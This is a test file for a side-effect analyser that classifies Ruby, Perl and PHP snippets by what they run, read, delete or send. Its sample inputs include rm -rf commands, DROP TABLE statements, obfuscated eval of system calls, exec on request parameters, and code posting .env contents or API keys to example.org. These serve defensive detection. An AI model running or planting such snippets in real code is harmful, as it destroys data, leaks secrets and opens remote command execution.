import { describe, expect, it } from "vitest"
import {
  base64,
  computedCommand,
  computedName,
  computedPath,
  computedText,
  deletes,
  effectsOf,
  evaluates,
  handedOn,
  modes,
  reads,
  receives,
  renames,
  rows,
  runs,
  secret,
  sends,
  states,
  type Table,
  unknown,
  writes,
} from "./expectations.ts"

const ruby: Table = [
  ["system('rm -rf build')", [runs("rm -rf build")]],
  ['system "rm", "-rf", "build"', [runs("rm", "-rf", "build")]],
  ["puts `git push --force`", [runs("git push --force")]],
  ["x = %x(id)", [runs("id")]],
  ["dir = 'a'\n`rm -rf #{dir}`", [runs("rm -rf a")]],
  ["`rm -rf #{ARGV[0]}`", [computedCommand]],
  ["require 'open3'\nout, err, st = Open3.capture3('id', '-u')", [runs("id", "-u")]],
  ["IO.popen(['ls', '-l']).read", [runs("ls", "-l")]],
  ["Kernel.send(:system, 'id')", [runs("id")]],
  ["exec *%w[rm -rf x]", [runs("rm", "-rf", "x")]],
  ["require 'fileutils'\nFileUtils.rm_rf 'a'\nFileUtils.mv('b', 'c')", [deletes("a", true), renames("b", "c")]],
  ["%w[a b].each { |f| File.delete(f) }", [computedPath, deletes("")]],
  ["File.delete('a', 'b'); File.chmod(0777, 'c')", [deletes("a"), deletes("b"), modes("c")]],
  ["File.write('a', <<~TEXT)\n  system('id')\nTEXT\nFile.read('b')", [writes("a"), reads("b")]],
  ["File.open('a', 'w') { |f| f.puts 'x' }", [writes("a")]],
  ["system(<<~SH)\n  rm -rf x\nSH", [runs("rm -rf x")]],
  ["Net::HTTP.post(URI('https://example.org/a'), ENV['API_KEY'])", [sends("example.org", "secret"), secret("API_KEY")]],
  ["puts Net::HTTP.get(URI('https://example.org/a'))", [receives("example.org")]],
  ["User.where(id: 1).delete_all; Post.destroy_all", [rows("activerecord", "delete", "User"), rows("activerecord", "delete", "Post")]],
  ["ActiveRecord::Base.connection.execute('DROP TABLE a')", [states("DROP TABLE a")]],
  ["DatabaseCleaner.clean_with(:truncation)", [rows("unknown", "truncate")]],
  ["eval(\"system('id')\")", [runs("id")]],
  [`eval(Base64.decode64("${base64("system('id')")}"))`, [runs("id")]],
  ["instance_eval { puts 1 }\neval(text)", [evaluates("ruby", "unknown"), computedText]],
  ["puts [1, 2, 3].map { |x| x * 2 }.select(&:even?).join(', ') # `id`", []],
  ["def a(b)\n  return b[:x] ? 'y' : :z unless b.nil?\nend\nputs a({ x: 1, 'k' => 2 }) =~ /`id`/", []],
]

const perl: Table = [
  ["system('rm -rf build');", [runs("rm -rf build")]],
  ["system 'rm', '-rf', 'build';", [runs("rm", "-rf", "build")]],
  ["my $out = `id`; print qx{ls -l};", [runs("id"), runs("ls -l")]],
  ["my $d = 'a'; exec(\"rm -rf $d\");", [runs("rm -rf a")]],
  ['system("rm -rf $ARGV[0]")', [computedCommand]],
  ["open(my $f, '-|', 'ls', '-l'); open(G, 'id |');", [runs("ls", "-l"), runs("id")]],
  ["open(my $f, '>', 'a.txt') or die; print $f 'x';", [writes("a.txt")]],
  ["open(F, '<', '.env'); open(F, '>>log');", [reads(".env"), secret(".env"), writes("log")]],
  ["unlink 'a', 'b'; unlink glob('*.o');", [deletes("a"), deletes("b"), computedPath, deletes("")]],
  ["use File::Path qw(rmtree); rmtree('a');", [deletes("a", true)]],
  ["rename('a', 'b'); chmod 0777, 'c';", [renames("a", "b"), modes("c")]],
  ["$dbh->do('DELETE FROM users'); $dbh->prepare(q{DROP TABLE a});", [states("DELETE FROM users"), states("DROP TABLE a")]],
  ["use LWP::Simple; getprint('http://example.org/a');", [receives("example.org")]],
  ["my $ua = LWP::UserAgent->new; $ua->post('https://example.org', { k => $ENV{API_KEY} });", [sends("example.org", "secret"), secret("API_KEY")]],
  ["eval \"system('id')\"; eval { 1 };", [runs("id")]],
  ["eval(pack('H*', '73797374656d2827696427293b'))", [runs("id")]],
  ["$x =~ s/a/system('id')/e;", [runs("id")]],
  ["my %h = (s => 1, y => 2); print \"$h{s} @{[1 + 2]}\\n\" if $x =~ m/`id`/; # system('id')", []],
  ["print <<'E';\nsystem('id')\nE\nprint join(', ', map { $_ * 2 } @ARGV);", []],
  ["eval $text;", [evaluates("perl", "unknown"), computedText]],
]

const php: Table = [
  ["shell_exec('rm -rf build');", [runs("rm -rf build")]],
  ["<?php echo `id`; ?>system('x')", [runs("id")]],
  ["SYSTEM('id'); \\exec('ls');", [runs("id"), runs("ls")]],
  ["$f = 'sys' . 'tem'; $f('id');", [runs("id")]],
  ["call_user_func('passthru', 'id');", [runs("id")]],
  ["proc_open(['rm', '-rf', 'x'], [], $pipes);", [runs("rm", "-rf", "x")]],
  ["$d = 'a'; exec(\"rm -rf {$d}\");", [runs("rm -rf a")]],
  ["exec($_GET['c']);", [computedCommand]],
  ["unlink('a'); rename('b', 'c'); chmod('d', 0777);", [deletes("a"), renames("b", "c"), modes("d")]],
  ["foreach (glob('*') as $f) unlink($f);", [computedPath, deletes("")]],
  ["file_put_contents('a.txt', 'x'); $h = fopen('b', 'w');", [writes("a.txt"), writes("b")]],
  ["echo file_get_contents('composer.json');", [reads("composer.json")]],
  ["echo file_get_contents('https://example.org/a');", [receives("example.org")]],
  ["echo getenv('DB_PASSWORD');", [secret("DB_PASSWORD")]],
  [
    "$c = curl_init('https://example.org'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env')); curl_exec($c);",
    [receives("example.org"), reads(".env"), secret(".env"), sends("example.org", "secret")],
  ],
  ["$pdo->exec('DELETE FROM users'); mysqli_query($c, 'DROP TABLE a');", [states("DELETE FROM users"), states("DROP TABLE a")]],
  ["DB::table('users')->delete(); User::truncate();", [rows("eloquent", "delete", "users"), rows("eloquent", "truncate", "User")]],
  [`eval(base64_decode('${base64("system('id');")}'));`, [runs("id")]],
  ["eval($x);", [evaluates("php", "unknown"), computedText]],
  ["system(<<<E\nrm -rf x\nE);", [runs("rm -rf x")]],
  ["$_GET['f']($x);", [computedName]],
  ["array_map('system', $x);", [handedOn]],
  ["// ?> <?php\nsystem('id');", [runs("id")]],
  ["echo 'system(\"id\")', strlen(\"a {$b['c']} $d[0]\"), 1.5 . 'x'; # exec('id')\nfunction a(int $b): string { return \"$b\"; }", []],
  ["echo 'a", [unknown("a text in the program does not end")]],
]

describe("programs in Ruby, Perl and PHP", () => {
  it.each(ruby)("Ruby: %s", (program, effects) => {
    expect(effectsOf("ruby", program)).toEqual(effects)
  })
  it.each(perl)("Perl: %s", (program, effects) => {
    expect(effectsOf("perl", program)).toEqual(effects)
  })
  it.each(php)("PHP: %s", (program, effects) => {
    expect(effectsOf("php", program)).toEqual(effects)
  })
})
